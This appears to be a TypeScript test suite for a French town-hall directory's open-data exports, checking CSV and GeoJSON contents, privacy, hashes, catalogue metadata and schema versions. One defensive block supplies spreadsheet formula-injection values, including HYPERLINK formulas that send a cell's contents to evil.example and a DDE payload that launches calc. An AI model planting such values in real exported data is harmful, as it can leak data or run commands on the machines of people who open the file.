// The open directory's files (issues 21 and 40) from the fixture's data: a real CSV parser and a GeoJSON validator
// read them, one row per town hall with every column of the schema, no visitor's personal data, the Data Package's
// sizes and hashes and the catalogue's sizes those of the files, the same bytes twice.
import { createHash } from 'node:crypto';
import { getIssues } from '@placemarkio/check-geojson';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { fixtureRaw, FIXTURE_NOW, FRANCE_BLEU_PAGE, REVIEWER_EMAILS } from '../../tests/fixtures/site-seed.ts';
import { DEFAULT_SCHEDULE } from '../domain/schedule.ts';
import { E164_PATTERN } from '../domain/phone.ts';
import { governmentOfficeJsonLd } from './mairie-jsonld.ts';
import { openDataStream, openDataSummary } from './open-data.ts';
import { OPEN_DATA_COLUMNS, OPEN_DATA_FIELDS } from './open-data-fields.ts';
import { openDataCatalogue } from './open-data-catalogue.ts';
import { OPEN_DATA_SCHEMA_VERSION, openDataPackage, openDataTableSchema } from './open-data-package.ts';
import { toSiteData } from '../data/site/site-data.ts';

const URL_ = 'https://passeport.example.fr';
// The files as the build's endpoints answer them.
type SiteData = ReturnType<typeof toSiteData>;
const openDataFiles = async (site: SiteData, url: string, name: string) => {
  const summary = openDataSummary(site, url);
  const dataPackage = openDataPackage(url, name, summary);
  return {
    csv: await new Response(openDataStream(site, url, 'csv')).text(),
    geojson: await new Response(openDataStream(site, url, 'geojson')).text(),
    summary,
    schema: openDataTableSchema(url, name),
    dataPackage,
    catalogue: openDataCatalogue(url, name, summary, Buffer.byteLength(dataPackage)),
  };
};
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

const MARKERS = ['marker.review@personal.test', 'marker.correction@personal.test', 'MARKER-TEXT-4242'];

// The fixture's data, plus a review and an accepted correction written with marker e-mails and text: what a report
// carries never reaches the files; only the correction's effect (the value, 'visitor', the day) does.
function siteWithMarkers() {
  const raw = fixtureRaw();
  raw.reports = [
    ...raw.reports,
    { ...raw.reports[0], id: 99, content: `Avis ${MARKERS[2]} de ${MARKERS[0]}` } as (typeof raw.reports)[number],
  ];
  raw.mairies = raw.mairies.map((m) =>
    m.id === 6 ? { ...m, access: 'DEM', access_source: 'visitor', access_source_date: '2025-03-11' } : m,
  );
  raw.acceptedCorrections = [{ week: '2025-W11', accepted: 1 }];
  // OpenStreetMap's hours of Ajaccio, checked by a contributor (issue 22).
  raw.places = [
    ...raw.places,
    {
      mairie_id: 6,
      place_id: 'node/1',
      data: { schedule: { ...DEFAULT_SCHEDULE, samedi: [{ open: '09:00', close: '12:00' }] } },
      source: 'osm',
      source_date: '2025-02-20',
      source_checked: true,
    },
  ];
  return toSiteData(raw, FIXTURE_NOW);
}

describe('the open directory files', () => {
  const site = siteWithMarkers();
  let files: Awaited<ReturnType<typeof openDataFiles>>;
  beforeAll(async () => {
    files = await openDataFiles(site, URL_, 'Passeport Mairies');
  });

  it('parse as CSV: one row per town hall, every listed column in order', () => {
    const rows = parse(files.csv, { columns: true, bom: false }) as Record<string, string>[];
    expect(rows).toHaveLength(site.mairies.length);
    const header = (parse(files.csv, { to_line: 1 }) as string[][])[0];
    expect(header).toEqual(OPEN_DATA_COLUMNS);
    const abergement = rows.find((r) => r.page.endsWith('/mairie/mairie-de-l-abergement-clemenciat'));
    expect(abergement).toMatchObject({
      // Exactly an E.164 number: no apostrophe (the spreadsheet test below).
      telephone: '+33474240308',
      telephone_source: 'directory',
      telephone_date: '2025-03-04',
      email: 'mairie.abergement@example.fr',
      equipement: 'equipped',
      acces: 'ACC',
      acces_source: 'directory',
      acces_date: '2025-03-04',
      rendez_vous: 'https://rdv.example.fr/abergement',
    });
    // A status from public pages: the deciding page and its date as precise as the page (issue 33).
    expect(rows.find((r) => r.page.endsWith('/mairie/mairie-de-paris-1er-arrondissement'))).toMatchObject({
      equipement: 'equipped',
      equipement_source: FRANCE_BLEU_PAGE,
      equipement_date: '2017-03',
    });
    expect(rows.find((r) => r.page.endsWith('/mairie/mairie-de-paris-2e-arrondissement'))).toMatchObject({
      equipement: 'to_confirm',
      equipement_source: 'https://www.paris.fr/pages/passeport',
      equipement_date: '2019-06',
    });
    const dombes = rows.find((r) => r.commune === 'Ambérieux-en-Dombes');
    expect(dombes?.acces_texte).toBe('Sonnez <b>à gauche</b> : la secrétaire descend.');
    expect(dombes?.horaires).toMatch(/^Mo/);
    expect(dombes?.horaires_source).toBe('directory');
    // An accepted correction's effect, and an e-mail the directory does not publish as one ('inconnu'): left out.
    expect(rows.find((r) => r.id === '6')).toMatchObject({
      acces: 'DEM',
      acces_source: 'visitor',
      acces_date: '2025-03-11',
    });
    expect(rows.find((r) => r.commune === 'Ambérieu-en-Bugey')?.email).toBe('');
    // OpenStreetMap's hours, dated; indicative hours are not data.
    expect(rows.find((r) => r.commune === 'Ajaccio')).toMatchObject({
      horaires: 'Mo-Fr 08:30-12:00,13:30-17:00; Sa 09:00-12:00',
      horaires_source: 'osm',
      horaires_date: '2025-02-20',
    });
    expect(rows.find((r) => r.commune === 'Ambérieu-en-Bugey')).toMatchObject({ horaires: '', horaires_source: '' });
    // Directory hours, every slot of a day, with their source and date.
    expect(rows.find((r) => r.commune === 'Névez')).toMatchObject({
      horaires: 'Mo,Tu 08:30-12:00,12:45-17:00; We 08:30-12:00; Th,Fr 08:30-12:00,12:45-17:00; Sa 08:30-12:00',
      horaires_source: 'directory',
      horaires_date: '2025-03-04',
    });
  });

  it('is valid GeoJSON with a point per located town hall', () => {
    expect(getIssues(files.geojson)).toEqual([]);
    expect(files.geojson).toBe(`${JSON.stringify(JSON.parse(files.geojson))}\n`); // written a feature at a time
    const collection = JSON.parse(files.geojson) as { features: { geometry: unknown; properties: object }[] };
    expect(collection.features).toHaveLength(site.mairies.length);
    expect(collection.features.filter((f) => f.geometry === null)).toHaveLength(
      site.mairies.filter((m) => m.latitude === null).length,
    );
    expect(Object.keys(collection.features[0].properties)).toEqual(
      OPEN_DATA_COLUMNS.filter((n) => n !== 'latitude' && n !== 'longitude'),
    );
  });

  it('carries no e-mail, text or address of a visitor', () => {
    for (const text of [files.csv, files.geojson, files.dataPackage, files.catalogue])
      for (const marker of [...MARKERS, ...REVIEWER_EMAILS]) expect(text).not.toContain(marker);
  });

  it('streams the same bytes whatever the chunk size', async () => {
    for (const file of ['csv', 'geojson'] as const)
      expect(await new Response(openDataStream(site, URL_, file, 1)).text()).toBe(files[file]);
  });

  it('describes the files with their sizes and hashes (Data Package) and the data’s date (catalogue)', () => {
    const dataPackage = JSON.parse(files.dataPackage) as {
      resources: { path: string; bytes: number; hash: string; schema?: string }[];
    };
    expect(dataPackage.resources).toEqual([
      expect.objectContaining({
        path: 'mairies.csv',
        bytes: Buffer.byteLength(files.csv),
        hash: `sha256:${sha256(files.csv)}`,
        schema: 'mairies.schema.json',
      }),
      expect.objectContaining({
        path: 'mairies.geojson',
        bytes: Buffer.byteLength(files.geojson),
        hash: `sha256:${sha256(files.geojson)}`,
      }),
    ]);
    const catalogue = JSON.parse(files.catalogue) as {
      'dcat:dataset': {
        'dct:identifier': string;
        'dct:modified': unknown;
        'dcat:distribution': { 'dcat:downloadURL': { '@id': string }; 'dcat:byteSize': { '@value': string } }[];
      }[];
    };
    const [dataset] = catalogue['dcat:dataset'];
    expect(dataset['dct:identifier']).toBe(`${URL_}/donnees`);
    expect(dataset['dct:modified']).toEqual({ '@value': '2025-03-12', '@type': 'xsd:date' });
    expect(
      dataset['dcat:distribution'].map((d) => [d['dcat:downloadURL']['@id'], Number(d['dcat:byteSize']['@value'])]),
    ).toEqual([
      [`${URL_}/donnees/mairies.csv`, Buffer.byteLength(files.csv)],
      [`${URL_}/donnees/mairies.geojson`, Buffer.byteLength(files.geojson)],
      [`${URL_}/donnees/datapackage.json`, Buffer.byteLength(files.dataPackage)],
    ]);
  });

  it('types every IRI the catalogue references (the DCAT-AP shapes check classes without inference)', () => {
    const untyped: string[] = [];
    const visit = (value: unknown): void => {
      if (Array.isArray(value)) return value.forEach(visit);
      if (!value || typeof value !== 'object') return;
      const node = value as Record<string, unknown>;
      if ('@id' in node && !('@type' in node)) untyped.push(String(node['@id']));
      for (const [key, child] of Object.entries(node)) if (key !== '@context') visit(child);
    };
    visit(JSON.parse(files.catalogue));
    expect(untyped).toEqual([]);
    expect(files.catalogue).not.toContain('spdx');
  });

  it('gives the same bytes for the same data', async () => {
    const again = await openDataFiles(siteWithMarkers(), URL_, 'Passeport Mairies');
    expect(again).not.toBe(files);
    expect(again).toEqual(files);
    // A later build time changes nothing: no date of the build is written.
    expect(
      (await openDataFiles(toSiteData(fixtureRaw(), new Date('2026-01-01T00:00:00Z')), URL_, 'Passeport Mairies')).csv,
    ).toBe((await openDataFiles(toSiteData(fixtureRaw(), FIXTURE_NOW), URL_, 'Passeport Mairies')).csv);
  });
});

describe('a 4-digit service number', () => {
  const raw = fixtureRaw();
  raw.mairies = raw.mairies.map((m) => (m.id === 1 ? { ...m, tel: '3013' } : m));
  const site = toSiteData(raw, FIXTURE_NOW);

  it('is published in the open files and the JSON-LD as the page shows it', async () => {
    const csv = await new Response(openDataStream(site, URL_, 'csv')).text();
    const row = (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.id === '1');
    expect(row?.telephone).toBe('3013');
    const mairie = site.mairies.find((m) => m.id === 1)!;
    const office = governmentOfficeJsonLd(mairie, `${URL_}/mairie/${mairie.slug}`, DEFAULT_SCHEDULE) as {
      telephone?: string;
    };
    expect(office.telephone).toBe('3013');
  });
});

describe("the 2026 directory's dates", () => {
  const raw = fixtureRaw();
  raw.dataSources = [
    ...raw.dataSources,
    {
      role: 'directory2026',
      file: 'dila_annuaire_mairies_2026.csv',
      title: null,
      published_on: '2026-10',
      imported_on: '2026-11-01',
    },
  ];
  const dated = { source: 'directory2026', date: '2026-10-06' };
  raw.mairies = raw.mairies.map((m) =>
    m.id === 1
      ? {
          ...m,
          tel_source: dated.source,
          tel_source_date: dated.date,
          hours_source: dated.source,
          hours_source_date: dated.date,
          address_source: dated.source,
          address_source_date: dated.date,
        }
      : m,
  );
  const site = toSiteData(raw, FIXTURE_NOW);

  it('are the month, as the pages say it: the file has no date per record', async () => {
    const csv = await new Response(openDataStream(site, URL_, 'csv')).text();
    const row = (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.id === '1');
    expect(row).toMatchObject({
      telephone_source: 'directory2026',
      telephone_date: '2026-10',
      horaires_source: 'directory2026',
      horaires_date: '2026-10',
      adresse_date: '2026-10',
    });
    expect(openDataSummary(site, URL_).modified).toBe('2026-10');
    const catalogue = JSON.parse(openDataCatalogue(URL_, 'Passeport Mairies', openDataSummary(site, URL_), 1)) as {
      'dcat:dataset': { 'dct:modified': unknown }[];
    };
    expect(catalogue['dcat:dataset'][0]['dct:modified']).toEqual({ '@value': '2026-10', '@type': 'xsd:gYearMonth' });
  });
});

describe('the open CSV in a spreadsheet', () => {
  // Directory text as any of thousands of administrations could write it, and a town hall west of Greenwich.
  const HOSTILE = {
    nom: '=HYPERLINK("https://evil.example/?"&A2,"Plan")',
    ligne_2: '+33 rue; -1 bis;@SUM(1+1)',
    ligne_3: '\tTab',
    ville: '@Ville',
    access_text: 'Entrée;=HYPERLINK("https://evil.example/","Plan d\'accès"); ;  +cmd|\' /C calc\'!A0',
    rendez_vous: '-2+3',
  };
  const raw = fixtureRaw();
  raw.mairies = raw.mairies.map((m) => (m.id === 1 ? { ...m, ...HOSTILE, longitude: -1.55 } : m));
  const site = toSiteData(raw, FIXTURE_NOW);
  let csv = '';
  let geojson = '';
  beforeAll(async () => {
    csv = await new Response(openDataStream(site, URL_, 'csv')).text();
    geojson = await new Response(openDataStream(site, URL_, 'geojson')).text();
  });
  const FORMULA = /^[ "]*[=+\-@\t\r]/;

  it('split on commas (RFC 4180): no text cell starts a formula, numbers stay numbers', () => {
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === '1');
    expect(row).toMatchObject({
      nom: `'${HOSTILE.nom}`,
      adresse_ligne_1: "'+33 rue; '-1 bis;'@SUM(1+1)",
      adresse_ligne_2: "'\tTab",
      commune: "'@Ville",
      longitude: '-1.55',
      telephone: '+33474240308',
    });
    // Every text cell, but a phone that is exactly an E.164 number: no formula, reference or DDE payload fits in it.
    for (const r of rows)
      for (const [column, cell] of Object.entries(r)) {
        if (column === 'longitude' || column === 'latitude') continue;
        if (column === 'telephone' && E164_PATTERN.test(cell)) continue;
        expect(cell, column).not.toMatch(FORMULA);
      }
  });

  it('split on semicolons as a French spreadsheet does, inside quotes too: no part starts a formula', () => {
    const parts = csv.split(/\r\n/).flatMap((line) => line.split(';').slice(1));
    expect(parts.length).toBeGreaterThan(4);
    for (const part of parts) expect(part).not.toMatch(FORMULA);
  });

  it('leaves the GeoJSON as the data says', () => {
    const feature = (
      JSON.parse(geojson) as {
        features: { properties: Record<string, unknown>; geometry: { coordinates: number[] } }[];
      }
    ).features.find((f) => f.properties.id === 1);
    expect(feature?.properties).toMatchObject({ nom: HOSTILE.nom, acces_texte: HOSTILE.access_text });
    expect(feature?.geometry.coordinates[0]).toBe(-1.55);
  });
});

describe('the Table Schema of the CSV', () => {
  const schema = JSON.parse(openDataTableSchema(URL_, 'Passeport Mairies')) as {
    version: string;
    fields: { name: string; type: string; description: string; example: string }[];
  };

  it('lists the CSV’s columns in order, each with its type, description and example', () => {
    expect(schema.fields.map((f) => f.name)).toEqual(OPEN_DATA_COLUMNS);
    for (const field of schema.fields) expect(field, field.name).toMatchObject({ description: expect.any(String) });
    for (const field of schema.fields) expect(field.example, field.name).toEqual(expect.any(String));
  });

  // Changing a field changes what reusers' programs read: record the new fields' hash here with a new version.
  it('changes its version when its fields change', () => {
    const VERSIONS: Record<string, string> = {
      '1.0.0': '2ad81d4f270fbd6e783880334528def5dff413572a853a744e8c674c6c270895',
      // The source code 'mairie' (the town hall's own answer, issue 41) in the source columns' descriptions.
      '1.1.0': '0f1fec200c050f108f672d5468abfd3a79ed6d4c8fa98fff28371979201ab9e7',
    };
    expect(schema.version).toBe(OPEN_DATA_SCHEMA_VERSION);
    expect(VERSIONS[OPEN_DATA_SCHEMA_VERSION], 'bump OPEN_DATA_SCHEMA_VERSION and record the fields’ hash').toBe(
      sha256(JSON.stringify(OPEN_DATA_FIELDS)),
    );
  });
});
